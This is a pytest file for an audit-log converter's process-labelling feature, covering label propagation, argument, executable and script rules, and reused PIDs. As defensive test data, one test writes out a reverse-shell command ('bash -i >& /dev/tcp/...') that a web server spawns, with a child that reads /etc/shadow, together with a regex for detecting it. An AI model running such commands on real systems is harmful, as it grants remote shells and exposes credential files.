"""Labels of processes, and their origin."""

from pathlib import Path

import pytest

from tests.stories.conftest import Tell
from tests.support.conversion import Event, by_id, convert
from tests.support.stream import Stream

SOFTWARE = """
[label-process]
label-keys = ["software_mgmt"]
propagate-labels = ["software_mgmt"]
"""


def labels(event: Event) -> list[str] | None:
    """The labels in an event."""
    found: list[str] | None = event["SYSCALL"].get("LABELS")
    return found


def test_apt_get_and_all_of_its_children(tell: Tell) -> None:
    """Processes of `apt-get update` have its label: forked, exec'ed, orphaned."""
    stream = Stream()
    shell = stream.execute(100, 50, "/usr/bin/bash", "bash")
    apt = stream.execute(200, 100, "/usr/bin/apt-get", "apt-get", "update", key="software_mgmt")
    method = stream.execute(201, 200, "/usr/lib/apt/methods/http", "http")
    forked = stream.open(202, 200, "/usr/bin/apt-get")
    in_place = stream.execute(202, 200, "/usr/bin/dpkg", "dpkg", "--print-foreign-architectures")
    stream.leave(200, 100, "/usr/bin/apt-get")
    orphan = stream.execute(203, 201, "/usr/bin/gpgv", "gpgv")
    handed_over = stream.open(201, 1, "/usr/lib/apt/methods/http")
    beside = stream.execute(300, 100, "/usr/bin/ls", "ls")
    events = tell(stream, SOFTWARE)
    carrying = [apt, method, forked, in_place, orphan, handed_over]
    assert all(labels(events[id_]) == ["software_mgmt"] for id_ in carrying)
    assert labels(events[shell]) is None
    assert labels(events[beside]) is None


def test_a_label_that_is_not_propagated_stays(tell: Tell) -> None:
    """Without `propagate-labels` neither child nor grandchild carry the label."""
    stream = Stream()
    apt = stream.execute(200, 100, "/usr/bin/apt-get", "apt-get", key="software_mgmt")
    child = stream.execute(201, 200, "/usr/bin/dpkg", "dpkg")
    grandchild = stream.execute(202, 201, "/usr/bin/sh", "sh")
    events = tell(stream, '[label-process]\nlabel-keys = ["software_mgmt"]')
    assert labels(events[apt]) == ["software_mgmt"]
    assert labels(events[child]) is None
    assert labels(events[grandchild]) is None


def test_one_of_several_keys_makes_a_label(tell: Tell) -> None:
    """P10: keys of one rule, joined by 0x01, are looked at one by one, and listed."""
    stream = Stream()
    id_ = stream.execute(200, 100, "/usr/bin/apt", "apt", key=b"watch\x01software_mgmt")
    syscall = tell(stream, SOFTWARE)[id_]["SYSCALL"]
    assert syscall["LABELS"] == ["software_mgmt"]
    assert syscall["KEYS"] == ["watch", "software_mgmt"]
    assert syscall["key"] == "watch%01software_mgmt"


def test_labels_by_executable(tell: Tell) -> None:
    """`label-exe` puts a label on at the exec, `unlabel-exe` takes it away at a later one."""
    stream = Stream()
    java = stream.execute(200, 100, "/opt/app/bin/java", "java")
    later = stream.open(200, 100, "/opt/app/bin/java")
    php = stream.execute(201, 200, "/usr/bin/php", "php")
    plus = stream.execute(202, 100, "/usr/bin/g++", "g++")
    config = r"""
[label-process]
label-exe.'^/opt/.*/bin/java$' = 'java'
label-exe.'^/usr/bin/g\+\+$' = 'compiler'
unlabel-exe.'/bin/php$' = 'java'
propagate-labels = ["java"]
"""
    events = tell(stream, config)
    assert labels(events[java]) == labels(events[later]) == ["java"]
    assert labels(events[php]) is None
    assert labels(events[plus]) == ["compiler"]


def test_a_reverse_shell_and_its_parents(tell: Tell) -> None:
    """A command line makes a label; the shell that it starts, and what that does, carry it."""
    stream = Stream()
    server = stream.execute(300, 1, "/usr/sbin/nginx", "nginx")
    shell = stream.execute(
        301, 300, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    )
    inner = stream.execute(302, 301, "/usr/bin/bash", "bash", "-i")
    spying = stream.open(302, 301, "/usr/bin/bash", "/etc/shadow")
    config = r"""
[label-process]
label-argv.'/dev/(tcp|udp)/[0-9.]+/\d+' = 'reverse-shell'
propagate-labels = ["reverse-shell"]
"""
    events = tell(stream, config)
    assert labels(events[server]) is None
    for id_ in (shell, inner, spying):
        assert labels(events[id_]) == ["reverse-shell"]
    assert events[shell]["PARENT_INFO"]["ID"] == server
    assert events[inner]["SYSCALL"]["SPAWNED_BY"]["EVENT_ID"] == shell
    assert events[spying]["SYSCALL"]["PPID"]["EVENT_ID"] == shell


def test_an_argv_label_can_be_taken_away(tell: Tell) -> None:
    """`unlabel-argv` removes what `label-argv` or a parent has put on."""
    stream = Stream()
    plain = stream.execute(200, 100, "/usr/bin/python3", "python3", "manage.py")
    quiet = stream.execute(201, 100, "/usr/bin/python3", "python3", "manage.py", "--no-label")
    config = """
[label-process]
label-argv.'manage[.]py' = 'django'
unlabel-argv.'--no-label' = 'django'
"""
    events = tell(stream, config)
    assert labels(events[plain]) == ["django"]
    assert labels(events[quiet]) is None


def test_expressions_see_so_many_arguments_and_bytes(tell: Tell) -> None:
    """`label-argv-count` and `label-argv-bytes` bound what the expressions see."""
    stream = Stream()
    third = stream.execute(200, 100, "/usr/bin/x", "x", "a", "needle")
    second = stream.execute(201, 100, "/usr/bin/x", "x", "needle")
    far = stream.execute(202, 100, "/usr/bin/x", "y" * 60, "needle")
    config = """
[label-process]
label-argv.'needle' = 'found'
label-argv-count = 2
label-argv-bytes = 64
"""
    events = tell(stream, config)
    assert labels(events[third]) is None
    assert labels(events[second]) == ["found"]
    assert labels(events[far]) is None


def test_a_script_run_through_its_first_line(tell: Tell) -> None:
    """P2: the script is named, its label is on the event and stays with the process."""
    stream = Stream()
    run = stream.execute(
        200, 100, "/usr/bin/dash", "/usr/bin/dash", "./maint-disks.sh", "-v",
        script="./maint-disks.sh",
    )  # fmt: skip
    later = stream.open(200, 100, "/usr/bin/dash", comm="maint-disks.sh")
    plain = stream.execute(201, 100, "/usr/bin/dash", "sh", "-c", "true")
    config = r"""
[label-process]
label-script.'^/root/maint-.*[.]sh$' = 'maint'
"""
    events = tell(stream, config)
    assert events[run]["SYSCALL"]["SCRIPT"] == "/root/maint-disks.sh"
    assert labels(events[run]) == labels(events[later]) == ["maint"]
    assert "SCRIPT" not in events[plain]["SYSCALL"]
    assert labels(events[plain]) is None


def test_an_init_passes_on_nothing(tell: Tell) -> None:
    """Labels of pid 1 are not those of all the world."""
    stream = Stream()
    stream.execute(1, 0, "/usr/lib/systemd/systemd", "init", key="software_mgmt")
    child = stream.execute(200, 1, "/usr/bin/sshd", "sshd")
    assert labels(tell(stream, SOFTWARE)[child]) is None


def test_a_process_id_that_is_used_again(tell: Tell) -> None:
    """A new process with an old number inherits nothing from the old one."""
    stream = Stream()
    stream.execute(200, 100, "/usr/bin/apt", "apt", key="software_mgmt")
    stream.leave(200, 100, "/usr/bin/apt")
    again = stream.execute(200, 150, "/usr/bin/ls", "ls")
    events = tell(stream, SOFTWARE)
    assert labels(events[again]) is None
    assert "SPAWNED_BY" not in events[again]["SYSCALL"]


def test_a_failed_exec_is_none(tell: Tell) -> None:
    """P4: a search through PATH that fails labels nothing and starts no instance."""
    stream = Stream()
    shell = stream.execute(100, 50, "/usr/bin/bash", "bash")
    failed = stream.execute(100, 50, "/usr/bin/bash", key="software_mgmt", success=False)
    later = stream.open(100, 50, "/usr/bin/bash")
    config = """
[label-process]
label-exe.'bash' = 'shell'
"""
    events = tell(stream, config)
    assert events[failed]["SYSCALL"]["PID"]["EVENT_ID"] == shell
    assert events[later]["SYSCALL"]["PID"]["EVENT_ID"] == shell
    assert labels(events[failed]) == ["shell"]


@pytest.mark.parametrize("workers", [1, 2, 4])
def test_workers_agree(tmp_path: Path, workers: int) -> None:
    """Interleaved parents and children get the same labels from any number of workers."""
    stream = Stream(serial=1000)
    for number in range(150):
        apt, child = 2000 + 2 * number, 2001 + 2 * number
        stream.execute(apt, 100, "/usr/bin/apt", "apt", key="software_mgmt" if number % 2 else None)
        stream.open(child, apt, "/usr/bin/apt")
        stream.execute(child, apt, "/usr/bin/dpkg", "dpkg", str(number))
        stream.leave(apt, 100, "/usr/bin/apt")
        stream.open(child, 1, "/usr/bin/dpkg")
    alone = by_id(convert(tmp_path, stream.text(), SOFTWARE, 0))
    assert by_id(convert(tmp_path, stream.text(), SOFTWARE, workers)) == alone
    carrying = [event for event in alone.values() if labels(event)]
    assert len(carrying) == 75 * 5


def test_hostile_command_line_costs_no_more(tell: Tell) -> None:
    """An expression that makes others backtrack for ever meets 100 kB of its favourite letter."""
    stream = Stream()
    id_ = stream.execute(200, 100, "/usr/bin/x", "a" * 100_000 + "!")
    config = """
[label-process]
label-argv.'(a+)+$' = 'hostile'
label-argv-bytes = 1000000
"""
    assert labels(tell(stream, config)[id_]) is None


def test_a_script_label_can_be_taken_away(tell: Tell) -> None:
    """`unlabel-script` removes what `label-script` or a parent has put on."""
    stream = Stream()
    ids = [
        stream.execute(pid, 100, "/bin/sh", "/bin/sh", script, script=script)
        for pid, script in ((200, "/etc/cron.daily/tidy"), (201, "/etc/cron.daily/tidy.sample"))
    ]
    config = """
[label-process]
label-script.'^/etc/cron[.]' = 'cron'
unlabel-script.'[.]sample$' = 'cron'
"""
    events = tell(stream, config)
    assert [labels(events[id_]) for id_ in ids] == [["cron"], None]


@pytest.mark.parametrize(
    "rules",
    [
        "label-exe.'/apt$' = 'tool'",
        "label-argv.'^apt ' = 'tool'",
        "label-script.'/apt-script$' = 'tool'",
    ],
)
def test_labels_of_any_origin_pass_on(tell: Tell, rules: str) -> None:
    """P2, P3: what is propagated passes to children and over an exec, from any rule."""
    stream = Stream()
    stream.execute(
        200, 100, "/usr/bin/apt", "apt", "/usr/bin/apt-script", script="/usr/bin/apt-script"
    )
    child = stream.execute(201, 200, "/usr/bin/dpkg", "dpkg")
    successor = stream.execute(200, 100, "/usr/bin/true", "true")
    config = f'[label-process]\n{rules}\npropagate-labels = ["tool"]'
    if "script" in rules:
        stream.lines = [line.replace('a0="apt"', 'a0="/usr/bin/apt"') for line in stream.lines]
    events = tell(stream, config)
    assert [labels(events[id_]) for id_ in (child, successor)] == [["tool"]] * 2


@pytest.mark.parametrize(
    ("arch", "call"),
    [
        ("c000003e", "execveat"),
        ("4000003e", "x32 execve"),
        ("c000003e", "x32 execve"),
        ("c0000015", "ppc64 execve"),
        ("80000008", "mips64 execve"),
    ],
)
def test_an_exec_of_any_architecture(tell: Tell, arch: str, call: str) -> None:
    """P11: an exec is one where its number has no name, too."""
    stream = Stream()
    stream.open(200, 100, "/usr/bin/bash")
    id_ = stream.execute(200, 100, "/usr/bin/apt", "apt", arch=arch, call=call)
    syscall = tell(stream, "[label-process]\nlabel-exe.'/apt$' = 'tool'")[id_]["SYSCALL"]
    assert syscall["PID"] == {"EVENT_ID": id_}
    assert syscall["LABELS"] == ["tool"]
    assert syscall["SPAWNED_BY"]["comm"] == "bash"


def test_an_exec_that_was_not_shown(tell: Tell) -> None:
    """A program that its parent does not run was executed, whether or not a rule has shown it."""
    stream = Stream()
    stream.execute(100, 50, "/usr/bin/bash", "bash")
    later = stream.open(200, 100, "/opt/app/bin/java")
    events = tell(stream, "[label-process]\nlabel-exe.'/java$' = 'java'")
    assert labels(events[later]) == ["java"]


@pytest.mark.parametrize("end", ["exec", "exit"])
def test_an_exec_that_is_complete_too_late(tell: Tell, end: str) -> None:
    """Later changes of the process stay, and the labels are on the event that caused them."""
    stream = Stream(eoe=False)
    first = stream.execute(200, 100, "/usr/bin/app", "app", "--special")
    if end == "exec":
        following = stream.execute(200, 100, "/usr/bin/other", "other")
    else:
        following = stream.leave(200, 100, "/usr/bin/app")
    stream.lines = [line for line in stream.lines if "PROCTITLE" not in line]
    stream.wait(10)
    last = stream.open(200, 100, "/usr/bin/other")
    events = tell(stream, "[label-process]\nlabel-argv.'--special' = 'special'")
    assert labels(events[first]) == ["special"]
    assert events[first]["SYSCALL"]["PID"] == {"EVENT_ID": first}
    expected = following if end == "exec" else last
    assert events[last]["SYSCALL"]["PID"] == {"EVENT_ID": expected}
